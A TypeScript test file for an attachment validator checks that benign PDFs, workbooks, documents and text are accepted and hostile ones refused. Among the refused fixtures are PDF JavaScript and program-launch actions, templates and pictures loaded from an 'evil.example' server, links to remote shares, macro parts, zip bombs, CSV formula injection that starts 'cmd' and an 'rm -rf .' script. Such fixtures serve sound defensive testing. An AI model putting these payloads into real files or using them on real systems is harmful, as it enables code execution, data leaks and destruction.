import { constants, deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { type AttachmentExtension, MAX_ATTACHMENT_BYTES } from '../../../../domain/loads/load-files';
import { makePng } from '../../../../testing/hostile-files/images';
import { docxOf, external, officeXlsxOf } from '../../../../testing/hostile-files/office';
import { pdfObjects, pdfOf, pdfStream } from '../../../../testing/hostile-files/pdf';
import { xlsxOf } from '../../../../testing/hostile-files/xlsx-parts';
import { checkAttachment } from './check-attachment';

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const object = (content: string) => `7 0 obj ${content} endobj`;
const BYTES = Buffer.from([...Array(256).keys()]);

test.each<[string, AttachmentExtension, Buffer]>([
  ['a plain PDF', 'pdf', pdfOf()],
  [
    'a PDF with a link to a page of the web',
    'pdf',
    pdfOf(object('<< /S /URI /URI (https://example.com) >>')),
  ],
  ['a PDF with packed objects', 'pdf', pdfOf(pdfObjects('<< /Type /Page >>'))],
  [
    'a PDF with packed text and a picture',
    'pdf',
    pdfOf(
      pdfStream('/Filter /FlateDecode', '1 0 0 1 0 0 cm'),
      pdfStream('/Filter /DCTDecode', '', { packed: BYTES }),
    ),
  ],
  [
    'a PDF whose picture happens to hold short names',
    'pdf',
    pdfOf(pdfStream('', '', { packed: Buffer.from('\x01/JS /AA /EF \x02', 'latin1') })),
  ],
  [
    'a PDF with names that only start alike',
    'pdf',
    pdfOf(object('<< /JavaScripts 1 /EncryptMetadata true /Launched 2 >>')),
  ],
  [
    'a workbook',
    'xlsx',
    officeXlsxOf({ relations: external('hyperlink', 'https://example.com/a?b=1&amp;c=2') }),
  ],
  [
    'a workbook with printer settings',
    'xlsx',
    officeXlsxOf({ more: [{ name: 'xl/printerSettings/printerSettings1.bin', data: 'A4' }] }),
  ],
  ['a document', 'docx', docxOf({ more: [{ name: 'word/media/image1.png', data: Buffer.from(makePng()) }] })],
  ['a CSV file with formulas', 'csv', Buffer.from('pallets,total\n4,=SUM(A2)\n-3|4,+1 831!\n')],
  ['text in UTF-8', 'txt', Buffer.from('\ufeffDock 4 – Señor Muñoz\r\n\f')],
  ['text in Windows-1252', 'txt', Buffer.from('Señor Muñoz', 'latin1')],
  ['text in UTF-16', 'txt', utf16('Dock 4')],
])('%s is accepted', async (_, extension, bytes) => {
  expect(await checkAttachment(bytes, extension)).toBeNull();
});

/** A damaged stream; PDF readers still show what comes before the damage. */
const DAMAGED = Buffer.concat([
  deflateSync(`7 0 ${SCRIPT}`, { strategy: constants.Z_FIXED, finishFlush: constants.Z_SYNC_FLUSH }),
  Buffer.alloc(40, 0xff),
]);
const PDF_FAULTS: [string, Buffer, RegExp][] = [
  ['a script', pdfOf(object(SCRIPT)), /scripts/],
  ['a script with a coded name', pdfOf(object('<< /S /J#61v#61Script >>')), /scripts/],
  ['a packed script', pdfOf(pdfObjects(SCRIPT)), /scripts/],
  ['a packed script with a coded name', pdfOf(pdfObjects('<< /S /#4aavaScript >>')), /scripts/],
  ['a packed script in an unlabeled stream', pdfOf(pdfObjects(SCRIPT, '/Filter /FlateDecode')), /scripts/],
  [
    'a packed script whose stream is damaged at its end',
    pdfOf(pdfStream('/Filter /FlateDecode', '', { packed: deflateSync(`7 0 ${SCRIPT}`).subarray(0, -4) })),
    /scripts/,
  ],
  [
    'a short packed script that is damaged',
    pdfOf(pdfStream('/Filter /FlateDecode', '', { packed: DAMAGED })),
    /objects can be read|scripts/,
  ],
  [
    'a packed script behind a comment that ends its dictionary',
    pdfOf(pdfObjects(SCRIPT, '/Type /ObjStm /Filter /FlateDecode % endstream endobj 9 0 obj <<\n')),
    /scripts/,
  ],
  [
    'packed objects behind a comment that starts a stream',
    pdfOf(pdfObjects(SCRIPT, '/Type /ObjStm % stream\n /Filter /FlateDecode')),
    /objects can be read/,
  ],
  [
    'objects packed in an unusual way',
    pdfOf(pdfObjects(SCRIPT, '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]')),
    /objects can be read/,
  ],
  [
    'objects packed with a predictor',
    pdfOf(pdfObjects(SCRIPT, '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    /objects can be read/,
  ],
  ['a script far into its stream', pdfOf(pdfObjects(`${' '.repeat(300_000)}${SCRIPT}`)), /scripts/],
  ['a program to start', pdfOf(object('<< /S /Launch /F (cmd.exe) >>')), /starts no programs/],
  [
    'another file to open',
    pdfOf(object('<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>')),
    /opens no other files/,
  ],
  ['a form to send', pdfOf(object('<< /S /SubmitForm >>')), /sends nothing/],
  ['an embedded file', pdfOf(object('<< /Names << /EmbeddedFiles 8 0 R >> >>')), /files inside/],
  ['an attached file', pdfOf(object('<< /Type /Filespec /EF%\n<< /F 8 0 R >> >>')), /files inside/],
  ['an XFA form', pdfOf(object('<< /AcroForm << /XFA 8 0 R >> >>')), /forms/],
  ['media', pdfOf(object('<< /Subtype /RichMedia >>')), /media/],
  ['a password', pdfOf(object('<< /Encrypt 8 0 R >>')), /password/],
  ['too much to unpack', pdfOf(pdfObjects(' '.repeat(70_000_000))), /fewer parts/],
  ['too many streams', pdfOf('stream\n'.repeat(20_001)), /fewer parts/],
  ['no end', pdfOf().subarray(0, 40), /complete/],
  ['another file behind its end', Buffer.concat([pdfOf(), Buffer.alloc(2_000)]), /complete/],
  ['something before its start', Buffer.concat([Buffer.from('<html>'), pdfOf()]), /a PDF file/],
  ['no PDF, but HTML', Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), /a PDF file/],
  [
    'no PDF, but an SVG',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    /a PDF file/,
  ],
  ['no PDF, but a workbook', officeXlsxOf(), /a PDF file/],
];

const BINARY = { data: 'x' };
const OFFICE_FAULTS: [string, AttachmentExtension, Buffer, RegExp][] = [
  [
    'a renamed workbook with macros',
    'xlsx',
    officeXlsxOf({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
    /macros/,
  ],
  [
    'a renamed document with macros',
    'docx',
    docxOf({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    /macros/,
  ],
  [
    'a workbook with a macro part',
    'xlsx',
    officeXlsxOf({ more: [{ name: 'xl/vbaProject.bin', ...BINARY }] }),
    /macros/,
  ],
  [
    'a workbook with a macro part of another name',
    'xlsx',
    officeXlsxOf({
      types: '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      more: [{ name: 'xl/a.xml', ...BINARY }],
    }),
    /macros/,
  ],
  [
    'a workbook with a macro sheet',
    'xlsx',
    officeXlsxOf({ more: [{ name: 'xl/Macrosheets/sheet1.xml', ...BINARY }] }),
    /macros/,
  ],
  [
    'a workbook with an external workbook',
    'xlsx',
    officeXlsxOf({ more: [{ name: 'xl/externalLinks/externalLink1.xml', ...BINARY }] }),
    /other workbooks/,
  ],
  [
    'a workbook with a data connection',
    'xlsx',
    officeXlsxOf({ more: [{ name: 'xl/connections.xml', ...BINARY }] }),
    /connections/,
  ],
  [
    'a document with an embedded file',
    'docx',
    docxOf({ more: [{ name: 'word/embeddings/oleObject1.bin', ...BINARY }] }),
    /inside it/,
  ],
  [
    'a document with a program',
    'docx',
    docxOf({ more: [{ name: 'word/media/setup.exe', ...BINARY }] }),
    /inside it/,
  ],
  [
    'a document with a control',
    'docx',
    docxOf({ more: [{ name: 'word/activeX/activeX1.xml', ...BINARY }] }),
    /inside it/,
  ],
  [
    'a document with a template of another server',
    'docx',
    docxOf({ relations: external('attachedTemplate', 'https://evil.example/a.dotm') }),
    /templates/,
  ],
  [
    'a document with a picture of another server',
    'docx',
    docxOf({ relations: external('image', 'https://evil.example/a.png') }),
    /loads nothing/,
  ],
  [
    'a document with a coded external target',
    'docx',
    docxOf({ relations: external('image', 'https://evil.example').replace('External', '&#69;xternal') }),
    /loads nothing/,
  ],
  [
    'a document with a link to a share',
    'docx',
    docxOf({ relations: external('hyperlink', 'file:///\\\\evil\\share') }),
    /links to files/,
  ],
  ['a workbook named .docx', 'docx', officeXlsxOf(), /a Word document/],
  ['a document named .xlsx', 'xlsx', docxOf(), /an Excel workbook/],
  [
    'a ZIP file without a main part',
    'xlsx',
    xlsxOf({ parts: { '[Content_Types].xml': null } }),
    /an Excel workbook/,
  ],
  [
    'a bomb',
    'xlsx',
    officeXlsxOf({ more: [{ name: 'xl/bomb.xml', data: Buffer.alloc(70_000_000) }] }),
    /unpacks to at most 100 times/,
  ],
  ['a bomb in its relations', 'docx', docxOf({ relations: ' '.repeat(5_000_000) }), /at most 4 MB/],
  [
    'a document type in its relations',
    'docx',
    docxOf({ more: [{ name: 'word/_rels/a.xml.rels', data: '<!DOCTYPE x [<!ENTITY y "z">]><x/>' }] }),
    /./,
  ],
  ['a workbook that was cut off', 'xlsx', officeXlsxOf().subarray(0, -30), /damaged/],
  ['an old workbook named .xlsx', 'xlsx', Buffer.from('d0cf11e0a1b11ae1', 'hex'), /an Excel workbook/],
  ['a PDF named .docx', 'docx', pdfOf(), /a Word document/],
];

const TEXT_FAULTS: [string, AttachmentExtension, Buffer, RegExp][] = [
  ['HTML', 'txt', Buffer.from('\n <html><script>alert(1)</script>'), /plain text/],
  ['an SVG', 'csv', Buffer.from('\ufeff<svg onload="alert(1)"/>'), /plain text/],
  ['HTML in UTF-16', 'txt', utf16('<html>'), /plain text/],
  ['a PDF', 'txt', pdfOf(), /plain text/],
  ['a workbook', 'csv', officeXlsxOf(), /plain text/],
  ['a program', 'txt', Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), /plain text/],
  ['a picture', 'txt', Buffer.from(makePng()), /plain text/],
  ['a script', 'txt', Buffer.from('#!/bin/sh\nrm -rf .'), /plain text/],
  ['half a character', 'txt', utf16('Dock').subarray(0, -1), /plain text/],
  [
    'a cell that starts a program',
    'csv',
    Buffer.from(`dock,note\n4,"=cmd|'/c calc'!A1"\n`),
    /start programs/,
  ],
  ['such a cell after a sign', 'csv', Buffer.from("4;@SUM(1)*cmd|' /C calc'!A0"), /start programs/],
  ['such a cell in UTF-16', 'csv', utf16("=cmd|'/c calc'!A1"), /start programs/],
  ['nothing', 'txt', Buffer.alloc(0), /empty/],
];

test.each<[string, AttachmentExtension, Buffer, RegExp]>([
  ...PDF_FAULTS.map(
    ([what, bytes, expected]) =>
      [`a PDF with ${what}`, 'pdf', bytes, expected] as [string, 'pdf', Buffer, RegExp],
  ),
  ...OFFICE_FAULTS,
  ...TEXT_FAULTS.map(
    ([what, extension, bytes, expected]) =>
      [`text with ${what}`, extension, bytes, expected] as [string, AttachmentExtension, Buffer, RegExp],
  ),
])('%s is refused, and the sender is told why', async (_, extension, bytes, expected) => {
  expect(await checkAttachment(bytes, extension)).toMatch(expected);
});

test('ten megabytes made to be slow take less than two seconds of CPU', async () => {
  const size = MAX_ATTACHMENT_BYTES;
  const fill = (start: string, unit: string, end = '') =>
    Buffer.from(
      start + unit.repeat(Math.floor((size - start.length - end.length) / unit.length)) + end,
      'latin1',
    );
  const files: [AttachmentExtension, Buffer][] = [
    ['pdf', fill('%PDF-1.7\n', '/#4a#61v', '\n%%EOF')],
    ['pdf', fill('%PDF-1.7\n', '/EF %\n', '\n%%EOF')],
    ['pdf', fill('%PDF-1.7\n', '/ObjStm ', 'stream\n\n%%EOF')],
    ['csv', fill('', '=|')],
    ['csv', fill('', ",=|'")],
    ['txt', fill('', ' ')],
  ];
  const { user } = process.cpuUsage();
  for (const [extension, bytes] of files) await checkAttachment(bytes, extension);
  expect((process.cpuUsage().user - user) / 1000 / files.length).toBeLessThan(2_000);
});
